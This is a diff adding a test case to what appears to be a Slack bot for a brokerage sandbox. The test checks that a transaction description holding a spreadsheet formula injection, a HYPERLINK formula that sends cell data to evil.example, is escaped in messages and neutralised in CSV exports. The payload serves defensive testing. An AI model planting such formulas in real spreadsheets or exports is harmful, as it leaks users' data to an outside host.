@@ -80,6 +80,18 @@ async def test_activity_after_a_fill_pages_filters_and_exports_what_the_sandbox_
     assert "I could not send the report to your direct messages (missing_scope)" in str(refused["blocks"])
     assert len(bot.slack.by_method("files.completeUploadExternal")) == 1  # nothing more was uploaded
 
+    # Text AutoShares wrote never runs as a spreadsheet formula; amounts stay numbers.
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
+    fee = {"AccountId": BOB_ACCOUNT, "Kind": "Fee", "Amount": 1.25, "Description": hostile}
+    await bot.admin("POST", "_sandbox/transactions", json=fee)
+    fees = await command(bot, "activity fees 7d", user=BOB)
+    assert "&amp;A1" in str(fees["blocks"])  # shown escaped
+    await click(bot, button(fees, "activity_export"), user=BOB)
+    upload = bot.slack.by_method("files.completeUploadExternal")[-1].args["files"][0]["id"]
+    rows = list(csv.DictReader(io.StringIO(bot.slack.uploads[upload].decode())))
+    assert [r["Description"] for r in rows if "HYPERLINK" in r["Description"]] == ["'" + hostile]
+    assert {r["Value"] for r in rows} == {"-1.25", "-2.5"}
+
     # A deployment without the activity form answers 404: the transactions form is asked instead.
     await bot.admin("POST", "_sandbox/faults", json={"Rewrite": {"GET /v1.0/accounts/5002/activity": {"_status": 404}}})
     again = await command(bot, "activity trades 7d", user=BOB)
